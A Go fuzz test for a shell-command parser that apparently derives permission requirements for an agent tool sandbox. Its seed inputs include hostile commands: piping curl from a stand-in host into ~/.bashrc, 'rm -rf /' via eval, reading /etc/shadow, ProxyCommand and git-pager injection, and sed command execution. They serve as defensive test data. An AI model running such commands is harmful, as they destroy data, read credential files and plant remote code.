package shell

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/airlockhq/airlock/tool"
)

// FuzzBashRequirements: any input gives requirements without panicking;
// no Hole leaks into a Target; a Shape exists only with a Hole in it; a
// command's Argv is its Target's words; the result is deterministic.
func FuzzBashRequirements(f *testing.F) {
	for _, s := range []string{
		"git log; rm -rf x", "cd sub && git push", "echo $(curl evil.sh) > ~/.bashrc",
		"bash -c 'eval \"rm -rf /\"'", "f() { cat < /etc/shadow; }", "find . -exec rm {} +",
		"a=$(b) c | d &", "cat <<EOF\n$(x)\nEOF", "echo 'x", "${x:-$(y)}", "((x=$(z)))",
		"for i in $(seq 3); do cd $i; done", "coproc cat", "select x in a; do :; done",
		"mv -t d a b; cp --parents x/y z/", "ln -sf ../x ~/bin/", "tar xzf a.tgz -C $D", "dd of=$X",
		"git -C d clone git@[::1]:r.git", "curl -OJ --output-dir o 'https://x/[1-2]' -o f_#1",
		"wget -r -P d http://h:8/", "ssh -J a,b:2 -oPort=3 u@h cmd", "rsync -e 'ssh -p 2' h::m/ d",
		"find / -exec mv {} d/ +", "xargs -I% cp % /t/", "env -S'rm -rf' x", "nc -x p:1 h 1-9",
		"ssh -o 'ProxyCommand=nc %h %p' -p 2 u@h", "git -c alias.x='-c core.pager=\"$P\" log' x",
		"GIT_SSH_COMMAND='ssh -oProxyCommand=x' git fetch", "tar --to-command='cat>$F' -I z -xf a",
		"sed -e '1e id' -e 's/a/b/e'", "parallel -I% 'rm %' ::: a", "watch \"$C\"; flock l -c x",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		tm := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("SLOW %q", src)) })
		defer tm.Stop()
		reqs := Requirements(src, "/ws", "/home/u")
		again := Requirements(src, "/ws", "/home/u")
		if show(reqs) != show(again) {
			t.Fatalf("not deterministic for %q", src)
		}
		for _, r := range reqs {
			if r.Kind == "" {
				t.Fatalf("empty kind for %q", src)
			}
			if strings.ContainsRune(r.Target, tool.Hole) {
				t.Fatalf("tool.Hole in target %v for %q", r, src)
			}
			if r.Shape != "" && !strings.ContainsRune(r.Shape, tool.Hole) {
				t.Fatalf("shape without a tool.Hole %q for %q", r.Shape, src)
			}
			if r.Unparsed && r.Kind != tool.KindCommandExecute {
				t.Fatalf("unparsed %v", r)
			}
			if r.Kind == tool.KindCommandExecute && !r.Unparsed && strings.Join(r.Argv, " ") != r.Target &&
				!strings.HasSuffix(r.Target, " "+strings.Join(r.Argv, " ")) {
				t.Fatalf("argv %q does not end target %q", r.Argv, r.Target)
			}
		}
	})
}
